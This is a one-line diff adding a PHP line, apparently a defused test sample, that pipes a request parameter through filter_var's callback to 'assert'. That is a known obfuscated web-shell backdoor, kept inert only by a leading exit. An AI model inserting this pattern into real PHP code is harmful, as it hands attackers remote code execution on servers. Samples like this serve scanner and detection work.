@@ -1,0 +1,1 @@
+<?php exit; /* inert */ filter_var($_REQUEST["w"], FILTER_CALLBACK, array("options" => "assert"));
